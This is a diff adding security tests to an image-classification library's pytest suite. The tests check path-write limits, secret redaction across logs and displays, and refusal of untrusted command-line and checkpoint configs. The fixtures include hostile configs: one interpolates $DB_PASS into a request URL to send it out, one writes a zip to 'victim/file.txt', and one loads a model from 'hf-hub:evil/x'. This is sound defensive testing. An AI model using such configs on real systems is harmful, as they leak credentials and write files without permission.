@@ -3,16 +3,21 @@ import base64, json, os, pickle, re, shlex, socket, subprocess, sys, threading, 
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from importlib.util import find_spec
 from pathlib import Path
-import fsspec, numpy as np, pytest
+import fsspec, numpy as np, pytest, torch
 import clsnb
 import clsnb.apis.check # noqa: F401, gives Config its method
 from clsnb.apis.fit import fit
 from clsnb.apis.launch import slurm_script
+from clsnb.apis.open_model import init_model
+from clsnb.apis.test import evaluate_config
 from clsnb.config.config import Config
 from clsnb.config.writes import check_writes, writing_keys
 from clsnb.core.addresses import address_problem, option_problem, readable, readable_options
-from clsnb.core.errors import ClsnbError, ConfigError
+from clsnb.core.checkpoint import read_checkpoint
+from clsnb.core.errors import CheckpointError, ClsnbError, ConfigError, DataError
 from clsnb.core.io import download
+from clsnb.core.log import get_logger
+from clsnb.core.markup import element, table_element
 from clsnb.core.redact import hide_secrets
 from clsnb.core.registry import DATASETS, HOOKS, MODELS, OPTIMIZERS, RUNNERS, SAMPLERS, TRANSFORMS, accepted_args
 from clsnb.core.trust import carries_trust, is_trusted, offline, trusted
@@ -494,6 +499,15 @@ def test_trackers_take_what_describes_a_run(option):
         refused(check_writes, Config.fromstring(text))
         check_writes(Config.fromstring(text.replace(option, "name='a'")))
 
+def test_data_sets_are_downloaded_below_the_current_folder(tmp_path):
+    text = "data = dict(train=dict(type='RepeatDataset', dataset=dict(type='%s', data_prefix='%s')))"
+    for kind,there in dict(CIFAR10='cifar-10-batches-py', CIFAR100='cifar-100-python', MNIST='train-images-idx3-ubyte').items():
+        for trains in (True, False): refused(check_writes, Config.fromstring(text % (kind, tmp_path/'victim')), trains=trains)
+        check_writes(Config.fromstring(text % (kind, 'data/x')))
+        (tmp_path/kind).mkdir()
+        (tmp_path/kind/there).mkdir()
+        check_writes(Config.fromstring(text % (kind, tmp_path/kind)))
+
 def test_every_argument_that_names_a_place_is_known():
     known = writing_keys | {'init_kwargs', 'dvclive', 'on_trace_ready', 'work_dir', 'file_client_args', 'cache'}
     reading = {'data_prefix', 'ann_file', 'path_col', 'train_test_split_file', 'image_class_labels_file', 'image_file'}
@@ -505,3 +519,55 @@ def test_every_argument_that_names_a_place_is_known():
             if not cls.__module__.startswith('clsnb'): continue
             new = {o for o in accepted_args(cls) or () if place.search(o)}-known-reading-harmless
             assert not new, f'{name}: {new}: add it to clsnb.config.writes, or here'
+
+# ---- Where addresses are shown
+
+def test_no_surface_shows_a_secret(tmp_path, capsys):
+    address = 'https://me:hunter2@127.0.0.1:9/pets?token=hunter2&X-Amz-Signature=hunter2'
+    cfg = Config.fromstring(f"load_from = '{address}'\ndata = dict(train=dict(data_prefix='{address}'))")
+    other = Config.fromstring('load_from = None')
+    logger = get_logger(log_file=tmp_path/'a.log')
+    logger.warning('%s cannot be read', address)
+    for handler in list(logger.handlers):
+        if hasattr(handler, 'baseFilename'): handler.close(), logger.removeHandler(handler)
+    step = LoadImageFromFile(file_client_args=dict(backend='disk', path_mapping={'data/': address}))
+    keys = LoadImageFromFile.__repr__(LoadImageFromFile(file_client_args=dict(backend='disk', key='hunter2', secret='hunter2')))
+    shown = [
+        (tmp_path/'a.log').read_text(), capsys.readouterr().out, repr(cfg), repr(cfg.data), cfg._repr_html_(),
+        repr(cfg.diff(other)), cfg.diff(other)._repr_html_(), repr(cfg.check()), cfg.check()._repr_html_(), repr(step), keys,
+        element('a', address, href=address), table_element(['a'], [[address]])]
+    for kind in (ConfigError, DataError, CheckpointError): shown += [str(kind(address)), repr(kind(address))]
+    for read in (read_bytes, scan_folders, read_checkpoint, FileClient(tries=1).get):
+        with pytest.raises((ClsnbError, OSError)) as e: read(address)
+        if isinstance(e.value, ClsnbError): shown.append(str(e.value))
+    for text in shown: assert 'hunter2' not in text, text
+    assert 'hunter2' in cfg.pretty_text # what is written has to be read again
+
+# ---- The command line
+
+commands = dict(
+    dir=dict(more="""
+_fc = dict(backend='dir', path='x', target_protocol='zip', target_options=dict(fo='victim/file.txt', mode='w'))
+data['train'].update(data_prefix='dir://x', file_client_args=_fc)"""),
+    cache=dict(data='simplecache::https://127.0.0.1:9/a'), ssh=dict(data='ssh://127.0.0.1/a'),
+    leak=dict(data='http://127.0.0.1:9/{{ $DB_PASS }}/{{ $DATABASE_URL }}'), home=dict(data='http://127.0.0.1:9/{{ $HOME }}'))
+
+@pytest.mark.parametrize('form', commands)
+def test_commands_refuse_in_one_line(form, monkeypatch):
+    for name in ('DB_PASS', 'DATABASE_URL'): monkeypatch.setenv(name, 'hunter2')
+    Path('mine.py').write_text(config_text(**commands[form]))
+    for verb in ('verify', 'train', 'test', 'check', 'print-config'):
+        words = [sys.executable, '-m', 'clsnb', verb, 'mine.py', *(['none.pth'] if verb=='test' else [])]
+        if verb in ('test', 'check', 'print-config') and form!='leak': continue
+        run = subprocess.run(words, capture_output=True, text=True, timeout=120)
+        assert run.returncode==2 and len(run.stderr.splitlines())==1, (verb, run.stderr[-2000:])
+        assert '--trust' in run.stderr and 'hunter2' not in run.stdout+run.stderr
+        assert not Path('work_dirs').exists()
+
+def test_the_config_of_a_checkpoint_is_not_trusted(tmp_path):
+    text = config_text(backbone="dict(type='TIMMBackbone', model_name='hf-hub:evil/x')")
+    torch.save(dict(meta=dict(config=text, CLASSES=('a', 'b')), state_dict=dict(a=torch.zeros(1))), tmp_path/'a.pth')
+    refused(init_model, tmp_path/'a.pth')
+    refused(evaluate_config, tmp_path/'a.pth')
+    torch.save(dict(meta=dict(config="x = '{{ $DB_PASS }}'"), state_dict=dict(a=torch.zeros(1))), tmp_path/'b.pth')
+    refused(init_model, tmp_path/'b.pth')
